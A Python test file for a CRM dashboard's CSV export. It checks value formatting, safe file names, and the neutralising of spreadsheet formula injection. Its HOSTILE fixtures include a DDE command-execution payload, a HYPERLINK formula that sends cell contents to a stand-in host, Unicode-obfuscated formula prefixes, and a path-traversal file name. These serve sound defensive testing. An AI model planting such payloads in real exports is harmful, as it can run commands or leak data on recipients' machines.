"""Downloads as CSV: exact values, text that no spreadsheet takes for a formula, names of files."""

import csv
import json
import re
import unicodedata
from datetime import date
from decimal import Decimal
from io import StringIO
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from crmdash.export import Sheet, SheetColumn, csv_text, file_name, neutralised
from crmdash.export.sheet import Kind

HOSTILE = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\x00=1", "\x01=1", " =1", "\u00a0=1", "\u200b=1",
    "\ufeff=1",
    "\u202e=1", "\u3000＝1", "＝1", "＋1", "－1", "＠A", "﹦1", "−1", "\u2800=1", "\u3164=1", "\ufe0f=1", "\u00ad=1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"go")', "@SUM(1)*cmd|' /C calc'!A0", "\t", "a;=1",
    "a\n=1",
    "a\r\n +1", "a;\u200b＝1", '";=1', '"\n=1',
]  # fmt: skip
HARMLESS = ["A-1", "a=b", "1+1", "a, -b", "x@y.example", "'=1", "(=1)", "O'Neil", '"q"', "a;b", "张三", "", " a", "50%"]
FORMULA, FILLERS = "=+-@＝＋－＠﹦−", "\u2800\u3164\ufe0f"


def sheet(**columns: tuple[Kind, list[Any]]) -> Sheet:
    made = (SheetColumn.of(name, name.title(), kind, held) for name, (kind, held) in columns.items())
    return Sheet("Test", tuple(made))


def read(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


def begins(cell: str) -> str:
    """Return the first character of a cell that anybody can see."""
    seen = (char for char in cell if unicodedata.category(char)[0] not in "CZ" and char not in FILLERS)
    return next(seen, " ")


def spared(text: str) -> str:
    """Take the apostrophes off again, to compare the rest."""
    return text.replace("'", "")


def test_every_kind_is_written_plainly():
    made = sheet(
        id=("id", ["007", "-3"]),
        name=("text", ["张三", None]),
        money=("money", [-12_345_678, 1]),
        count=("count", [None, -4]),
        ratio=("decimal", [1e-9, float("nan")]),
        share=("percent", [0.125, None]),
        day=("date", [20_414, -1]),
    )
    assert csv_text(made).decode() == (
        '\ufeff"Id","Name","Money","Count","Ratio","Share","Day"\r\n'
        '"007","张三",-1234.5678,,0.000000001,0.125,"2025-11-22"\r\n'
        '"\'-3",,0.0001,-4,,,"1969-12-31"\r\n'
    )


def test_an_empty_sheet_is_its_header():
    assert csv_text(sheet(id=("id", []), value=("money", []))) == b'\xef\xbb\xbf"Id","Value"\r\n'


@pytest.mark.parametrize("text", HOSTILE)
def test_text_like_a_formula_is_disarmed(text: str):
    found = neutralised(pl.Series([text]))[0]
    assert found != text and spared(found) == spared(text)
    assert not [cell for cell in re.split("[;\t\r\n]", found) if begins(cell) in FORMULA], found
    assert neutralised(pl.Series([found]))[0] == found


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str):
    assert neutralised(pl.Series([text]))[0] == text


def test_headers_and_ids_are_disarmed_too_and_numbers_are_not():
    made = Sheet("x", (SheetColumn.of("a", "=A1", "id", ["=1"]), SheetColumn.of("b", "b", "money", [-10_000])))
    assert read(csv_text(made)) == [["'=A1", "b"], ["'=1", "-1.0000"]]


def test_hostile_strings_survive(shared_datasets: Path):
    texts = json.loads((shared_datasets / "messy" / "blns.json").read_text("utf-8"))
    found = read(csv_text(sheet(name=("text", texts), n=("count", list(range(len(texts)))))))
    assert [spared(row[0]) for row in found[1:]] == [spared(text) for text in texts]
    assert [row[1] for row in found[1:]] == [str(n) for n in range(len(texts))]
    for text, row in zip(texts, found[1:], strict=True):
        assert row[0] in (text, f"'{text}") or re.search(r"[;\t\r\n]", text)


@given(st.lists(st.tuples(st.text(), st.integers(-(10**15), 10**15) | st.none()), min_size=1))
def test_values_come_back(rows: list[tuple[str, int | None]]):
    made = sheet(name=("text", [name for name, _ in rows]), value=("money", [value for _, value in rows]))
    found = read(csv_text(made))[1:]
    assert [None if text == "" else Decimal(text) * 10_000 for _, text in found] == [value for _, value in rows]
    assert [spared(name) for name, _ in found] == [spared(name) for name, _ in rows]


@given(st.lists(st.text(), min_size=1))
def test_disarming_twice_is_disarming_once(texts: list[str]):
    once = neutralised(pl.Series(texts, dtype=pl.String))
    assert neutralised(once).to_list() == once.to_list()


def test_file_names_are_plain_and_never_the_same():
    names = {file_name("customers", "xlsx", date(2026, 11, 22)) for _ in range(50)}
    assert len(names) == 50
    assert all(re.fullmatch(r"crmdash-customers-2026-11-22-[0-9a-f]{6}\.xlsx", name) for name in names)


@pytest.mark.parametrize(
    ("kind", "extension"), [("客户", "csv"), ("../x", "csv"), ("A b", "csv"), ("a", "c/v"), ("", "csv")]
)
def test_other_file_names_are_refused(kind: str, extension: str):
    with pytest.raises(ValueError, match="no file name"):
        file_name(kind, extension, date(2026, 11, 22))


def test_columns_of_a_sheet_have_one_length():
    with pytest.raises(ValueError, match="different lengths"):
        sheet(a=("text", ["x"]), b=("text", []))
    with pytest.raises(KeyError):
        sheet(a=("text", ["x"])).column("b")
